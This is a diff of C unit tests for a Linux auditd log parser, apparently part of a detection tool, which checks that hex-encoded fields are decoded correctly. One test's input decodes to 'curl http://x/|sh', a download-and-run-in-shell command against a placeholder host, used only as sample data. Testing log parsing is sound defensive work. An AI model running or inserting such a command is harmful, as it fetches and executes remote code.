@@ -50,7 +50,7 @@ TN_TEST(test_auditd_syscall_execve)
            "@1 rec=93777 pc= | type=SYSCALL; arch=c000003e; syscall=59; success=yes; comm=dd;"
            " exe=/bin/dd; key=(null);\n"
            "@2 rec=93777 pc= | type=EXECVE; argc=2; a0=dd; a1=if=/dev/zero;\n"
-           "@3 rec=93777 pc= | type=PROCTITLE; proctitle=6464;\n",
+           "@3 rec=93777 pc= | type=PROCTITLE; proctitle=dd;\n",
            0);
     tn_diag d = {.quiet = 1};
     tn_auditd *r;
@@ -61,10 +61,37 @@ TN_TEST(test_auditd_syscall_execve)
     char t[32];
     tn_filetime_format(ev.time, t);
     CHECK_STR(t, "2020-11-10T08:19:44.965000Z");
-    CHECK_STR(ev.channel, "");
+    CHECK_STR(ev.channel, "auditd");   /* where data/logsources.yml sends linux auditd rules */
     CHECK_STR(ev.file, "a");
     CHECK_INT(tn_auditd_next(r, &ev), TN_JSONL_END);
     tn_auditd_close(r);
+}
+
+/* What the kernel writes in hex (a space, quote, control or non-ASCII
+ * byte inside) reads as ausearch -i shows it; numbers in hex do not. */
+TN_TEST(test_auditd_hex_decoded)
+{
+    EXPECT("type=EXECVE msg=audit(1.0:5): argc=3 a0=\"sh\" a1=\"-c\" "
+           "a2=6375726C20687474703A2F2F782F7C7368\n"
+           "type=SYSCALL msg=audit(1.0:5): arch=c000003e syscall=59 a0=55d0 a1=7ffd12 "
+           "comm=6D7920636F6D6D exe=\"/bin/sh\" key=6B310177617463685F6574630162\n"
+           "type=PROCTITLE msg=audit(1.0:5): proctitle=7368002D63006964\n"
+           "type=PATH msg=audit(1.0:5): item=0 name=(null) inode=ABCD nametype=NORMAL\n"
+           "type=CWD msg=audit(1.0:5): cwd=2F746D702F6120622F\n"
+           "type=USER_CMD msg=audit(1.0:6): pid=9 msg='cwd=\"/\" cmd=696420" "2D75 res=success'\n"
+           "type=EXECVE msg=audit(1.0:7): argc=2 a0=\"x\" a1_len=6 a1[0]=414243 a1[1]=\"DEF\" "
+           "a2=ABC a3=zz a4=\"6162\"\n",
+           "@1 rec=5 pc= | type=EXECVE; argc=3; a0=sh; a1=-c; a2=curl http://x/|sh;\n"
+           "@2 rec=5 pc= | type=SYSCALL; arch=c000003e; syscall=59; a0=55d0; a1=7ffd12;"
+           " comm=my comm; exe=/bin/sh; key=k1; key=watch_etc; key=b;\n"
+           "@3 rec=5 pc= | type=PROCTITLE; proctitle=sh -c id;\n"
+           "@4 rec=5 pc= | type=PATH; item=0; name=(null); inode=ABCD; nametype=NORMAL;\n"
+           "@5 rec=5 pc= | type=CWD; cwd=/tmp/a b/;\n"
+           "@6 rec=6 pc= | type=USER_CMD; pid=9; msg=cwd=\"/\" cmd=6964202D75 res=success;"
+           " cwd=/; cmd=id -u; res=success;\n"
+           "@7 rec=7 pc= | type=EXECVE; argc=2; a0=x; a1_len=6; a1=ABCDEF; a2=ABC; a3=zz;"
+           " a4=6162;\n",
+           0);
 }
 
 TN_TEST(test_auditd_node_user_enriched)
@@ -101,7 +128,8 @@ TN_TEST(test_auditd_bad_lines)
 
 TN_TEST(test_auditd_alloc_failures)
 {
-    const char *in = "type=SYSCALL msg=audit(1:2): a=1 b=\"2\" msg='c=3 d=4'\n";
+    const char *in = "type=SYSCALL msg=audit(1:2): a=1 b=\"2\" msg='c=3 d=4'\n"
+                     "type=EXECVE msg=audit(1:2): a0=\"x\" a1[0]=4142 a1[1]=43 key=610162\n";
     int finished = 0;
     for (long n = 0; n < 100 && !finished; n++) {
         tn_diag d = {.quiet = 1};
